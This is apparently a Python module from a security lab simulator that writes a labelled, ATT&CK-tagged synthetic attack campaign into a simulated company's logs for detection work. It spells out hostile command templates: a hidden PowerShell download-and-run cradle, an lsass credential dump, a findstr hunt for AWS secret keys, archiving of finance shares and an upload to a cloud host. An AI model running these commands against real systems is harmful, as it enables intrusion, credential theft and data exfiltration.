"""The one hidden attack: a declarative plan of steps, and who it befalls in a given company.

A document by mail, a shell, a program of its own, a timer that asks for orders, a look around, the credentials in memory, the file server,
an archive, the way out to a cloud host, and a stolen cloud key used from elsewhere. It takes about a day and a half.
"""

from __future__ import annotations

from dataclasses import dataclass

from nonself.core.errors import UsageError
from nonself.lab import emit_cloud as aws
from nonself.lab import life
from nonself.lab.clock import DAY, HOUR, MINUTE, stream
from nonself.lab.company import Company, Person, public_ip, site, site_name
from nonself.lab.emit import Scene
from nonself.lab.emit_cloud import Call
from nonself.lab.moves import Cloud, Enter, Intrusion, Move, Open, Poll, Register, Run, Start, Transfer, Write
from nonself.lab.write import Journal, Label

NAME = "document to cloud"


@dataclass(frozen=True, slots=True)
class Step:
    """A move of the plan, `after` so many minutes from the step before, give or take a third.

    `clock` starts anew instead: days after the first step's, and the hour.
    """

    name: str
    technique: str
    after: float
    move: Move
    clock: tuple[int, float] | None = None


_DOWNLOAD = (
    "$w=New-Object Net.WebClient;$p=$env:APPDATA+'\\Microsoft\\Shared\\{program}';$w.DownloadFile('https://{delivery}/a/{token}',$p);& $p"
)
_ENCODED = "powershell.exe -nop -w hidden -enc {encoded}"
_RUN_KEY = "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SharedHost"
_PACK = '"{packer}" a -mx1 -v600m -p{token} {archive}.7z D:\\Shares\\finance'
_UPLOAD = "{uploader} copy {folder} box:q1 --transfers 1"

PLAN: tuple[Step, ...] = (
    Step("attachment saved", "T1566.001", 0, Write("mail", ("{document}",))),
    Step("document opened", "T1204.002", 0.1, Start("word", "mail", "winword", '"{word}" /n "{document}"')),
    Step("encoded shell", "T1059.001", 0.5, Start("shell", "word", "powershell", _ENCODED, script=_DOWNLOAD)),
    Step("download", "T1105", 0.05, Transfer("shell", "delivery", 900, 780_000, 3)),
    Step("program written", "T1105", 0.1, Write("shell", ("{payload}",))),
    Step("program started", "T1036.005", 0.05, Start("payload", "shell", "program", '"{payload}"', image="{payload}")),
    Step("run key", "T1547.001", 2, Register("payload", _RUN_KEY, '"{payload}"')),
    Step("orders asked for", "T1071.001", 1, Poll("payload", "orders", 5, 0.2, 17)),
    Step("who am i", "T1033", 28, Run("payload", "whoami", "whoami /all")),
    Step("administrators", "T1069.002", 2, Run("payload", "net", 'net group "Domain Admins" /domain')),
    Step("trusts", "T1482", 3, Run("payload", "nltest", "nltest /domain_trusts /all_trusts")),
    Step("controllers", "T1018", 1, Run("payload", "nltest", "nltest /dclist:")),
    Step("addresses", "T1016", 2, Run("payload", "ipconfig", "ipconfig /all")),
    Step("system", "T1082", 2, Run("payload", "systeminfo", "systeminfo", 6)),
    Step("shares", "T1135", 4, Run("payload", "net", "net view \\\\{server} /all")),
    Step("credentials opened", "T1003.001", 45, Open("payload", "lsass", "0x1fffff")),
    Step("credentials written", "T1003.001", 0.05, Write("payload", ("{dump}",))),
    Step("file server entered", "T1021.002", 0, Enter("psexesvc"), clock=(0, 18.4)),
    Step("shell on file server", "T1569.002", 0.2, Start("console", "service", "cmd", '"cmd.exe"')),
    Step("files listed", "T1083", 4, Run("console", "cmd", "dir D:\\Shares\\finance D:\\Shares\\engineering /s /b", 8)),
    Step("keys found", "T1552.001", 9, Run("console", "cmd", 'findstr /s /i /m "aws_secret_access_key" D:\\Shares\\engineering\\*', 40)),
    Step("archiver", "T1560.001", 0, Start("packer", "console", "7z", _PACK), clock=(1, 1.7)),
    Step("archive", "T1560.001", 0.5, Write("packer", ("{archive}.7z.001", "{archive}.7z.002", "{archive}.7z.003"))),
    Step("uploader", "T1105", 9, Write("console", ("{uploader}",))),
    Step("upload started", "T1567.002", 2, Start("upload", "console", "uploader", _UPLOAD, image="{uploader}")),
    Step("upload", "T1567.002", 0.1, Transfer("upload", "box", 500_000_000, 240_000, 420, 3)),
    Step("archive removed", "T1070.004", 26, Run("console", "cmd", "del /q {archive}.7z.* {uploader}")),
    Step("stolen key tried", "T1078.004", 0, Cloud((Call("sts", "GetCallerIdentity"),)), clock=(1, 9.3)),
    Step("users listed", "T1087.004", 2, Cloud((Call("iam", "ListUsers", error="AccessDenied"),))),
    Step("buckets listed", "T1619", 1, Cloud((Call("s3", "ListBuckets", {"Host": "s3.amazonaws.com"}),))),
    Step("objects listed", "T1619", 3, Cloud((Call("s3", "ListObjects", {"bucketName": "tidewell-billing-exports"}),))),
    Step("objects fetched", "T1530", 2, Cloud((), "tidewell-billing-exports", "GetObject",
         tuple(f"2025/{month:02d}/customers-{part}.parquet" for month in range(1, 13) for part in (1, 2)))),
    Step("key made", "T1098.001", 7, Cloud((Call("iam", "CreateAccessKey", {"userName": "svc_deploy"}, read=False),))),
)  # fmt: skip


def befall(company: Company, journal: Journal) -> None:
    """Write the whole campaign into the journal; its records are labelled, and otherwise made by the same hands as everything else."""
    person, day, begin = _occasion(company)
    scene = Scene(company, journal, stream(company.seed, "campaign"))
    on, at = _intrusion(scene, person, day, begin), begin
    for number, step in enumerate(PLAN):
        if step.clock:
            at = company.first + (day + step.clock[0]) * DAY + int((step.clock[1] + scene.rng.uniform(0, 0.4)) * HOUR)
        at += int(step.after * scene.rng.uniform(0.7, 1.3) * MINUTE)
        with journal.labelled(Label("campaign", NAME, step.name, step.technique, number)):
            step.move.make(on, at)


def _occasion(company: Company) -> tuple[Person, int, int]:
    """The person it befalls, the day, and when: the last working day with a day after it, an office worker whose laptop stays on."""
    for day in range(company.days - 2, -1, -1):
        for person in reversed(company.of("office")):
            present = life.shift(company, person, day)
            if present and person.machine.docked and present.lunch - present.start > 2 * HOUR:
                rng = stream(company.seed, "occasion", day)
                return person, day, present.start + int(rng.uniform(60, 110) * MINUTE)
    raise UsageError(
        expected="a working day followed by another day",
        got=f"{company.days} days",
        do="give more days, or a start on a Monday",
        where="lab",
    )


def _intrusion(scene: Scene, person: Person, day: int, at: int) -> Intrusion:
    company, rng, login = scene.company, scene.rng, person.login
    names = _new_names(company)
    present = life.shift(company, person, day)
    where, _ = life.resident_session(company, person)
    mail = life.programs(company, person, day, present, where)["outlook"][1] if present else None
    admin, developer = company.of("admin")[0], company.of("developer")[-1]
    folder = f"C:\\Users\\{login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.getrandbits(32):08X}"
    return Intrusion(
        scene=scene,
        person=person,
        admin=admin.privileged or admin.account,
        server=company.servers["fs01"],
        caller=aws.user(company.aws_account, developer.account, public_ip(rng), "boto"),
        sites={role: site(company.seed, name) for role, name in names.items()},
        procs={"mail": mail} if mail else {},
        words=names
        | {
            "document": f"{folder}\\order_{rng.randrange(1_000, 9_999)}.docm",
            "word": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "packer": "C:\\Program Files\\7-Zip\\7z.exe",
            "program": "sharedhost.exe",
            "payload": f"C:\\Users\\{login}\\AppData\\Roaming\\Microsoft\\Shared\\sharedhost.exe",
            "dump": f"C:\\Users\\{login}\\AppData\\Local\\Temp\\{rng.getrandbits(32):08x}.tmp",
            "token": f"{rng.getrandbits(40):010x}",
            "server": company.servers["fs01"].name,
            "sid": person.account.sid,
            "folder": "C:\\ProgramData\\Intel\\Logs",
            "archive": f"C:\\ProgramData\\Intel\\Logs\\q{rng.randrange(1, 5)}",
            "uploader": "C:\\ProgramData\\Intel\\igfxsync.exe",
        },
    )


def _new_names(company: Company) -> dict[str, str]:
    """Host names that nobody here has asked for before, made the way all outside names are made."""
    rng, known = stream(company.seed, "campaign names"), {one.name for one in company.sites}
    names: dict[str, str] = {}
    while len(names) < 3:
        name = site_name(rng)
        if name not in known and name not in names.values():
            names[("delivery", "orders", "box")[len(names)]] = name
    return names
